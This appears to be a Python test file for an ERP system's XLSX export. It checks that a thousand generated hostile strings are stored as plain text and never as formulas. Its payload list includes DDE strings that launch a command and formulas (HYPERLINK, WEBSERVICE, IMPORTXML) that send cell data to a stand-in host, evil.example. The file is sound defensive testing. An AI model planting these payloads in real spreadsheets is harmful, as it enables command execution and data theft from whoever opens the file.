"""A thousand hostile strings leave as XLSX: by openpyxl and by the file's own XML, no cell is a formula."""

import io
import random
import re
import subprocess
import zipfile
from decimal import Decimal
from pathlib import Path
from xml.etree import ElementTree as ET

from openpyxl import Workbook, load_workbook

from erp.kernel.transfer.sheets import write
from tests.evidence.size import FULL, SEED, say

COUNT = 1_000
TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
OPENINGS = (
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    "=+",
    "-=",
    "'=",
    " =",
    "\u00a0=",
    "＝",
    "＋",
    "－",
    "＠",
    "\u202e=",
    "",
)
BODIES = (
    "1+1",
    "SUM(A1:A9)",
    "cmd|' /C calc'!A0",
    'DDE("cmd";"/C calc";"x")',
    'HYPERLINK("http://evil.example/?"&A1,"ใบเสร็จ")',
    'WEBSERVICE("http://evil.example")',
    'IMPORTXML(CONCAT("http://evil",A1),"//a")',
    "สวัสดี",
    "คุณมาลี ใจดี",
    "\u202eמבחן",
    "مرحبا",
    "1E5",
    "TRUE",
    "#REF!",
    "{1,2}",
    "A1",
    "<f>1+1</f>",
    "</c><c><f>1+1</f></c>",
    "&amp;=1+1",
    "0081-555-0101",
)


def hostile() -> list[str]:
    """The same of a seed."""
    chance = random.Random(SEED)
    return [
        f"{chance.choice(OPENINGS)}{chance.choice(BODIES)}{chance.choice(('', ' ', chr(9), '|'))}" for _ in range(COUNT)
    ]


def workbook() -> bytes:
    """They as headers' neighbours, text and figures beside one another."""
    rows = [(text, Decimal("-1.50"), text) for text in hostile()]
    return b"".join(write("xlsx", ("what", "amount", "=again"), rows))


def test_no_cell_of_a_thousand_hostile_strings_is_a_formula() -> None:
    book = workbook()
    cells = [cell for row in load_workbook(io.BytesIO(book)).active.iter_rows() for cell in row]
    assert len(cells) == 3 * (COUNT + 1)
    assert {cell.data_type for cell in cells} == {"s", "n"}
    texts = [cell.value for cell in cells[3:] if cell.data_type == "s"]
    assert len(texts) == 2 * COUNT
    assert [cell.value for cell in cells if cell.data_type == "n"] == [-1.5] * COUNT
    with zipfile.ZipFile(io.BytesIO(book)) as archive:
        assert not [name for name in archive.namelist() if "externalLink" in name or "vba" in name.lower()]
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert re.findall(rb"<f[ >/]", archive.read(name)) == []
    say(f"exports: {COUNT} hostile strings twice each in a workbook, no formula by openpyxl or in the XML")


def formulas_in(folder: Path, book: bytes) -> tuple[int, int]:
    """How many rows and formulas LibreOffice finds: as it says in the flat file that it writes of what it read."""
    (folder / "book.xlsx").write_bytes(book)
    command = ["soffice", "--headless", f"-env:UserInstallation=file://{folder}/profile", "--convert-to", "fods"]
    subprocess.run([*command, "--outdir", folder, folder / "book.xlsx"], check=True, capture_output=True)
    root = ET.parse(folder / "book.fods").getroot()
    found = [cell for cell in root.iter() if f"{TABLE}formula" in cell.attrib or cell.tag == f"{TABLE}dde-link"]
    return len(list(root.iter(f"{TABLE}table-row"))), len(found)


if FULL:  # LibreOffice is nothing that a test may ask a machine to have

    def test_libreoffice_opens_the_workbook_and_finds_no_formula(tmp_path: Path) -> None:
        """And finds the one of a workbook that has one."""
        control, bytes_of = Workbook(), io.BytesIO()
        control.active["A1"] = "=1+1"
        control.save(bytes_of)
        assert formulas_in(tmp_path, bytes_of.getvalue())[1] == 1
        rows, formulas = formulas_in(tmp_path, workbook())
        assert (rows > COUNT, formulas) == (True, 0)
        say(f"exports: LibreOffice opened {COUNT} rows, no cell a formula")
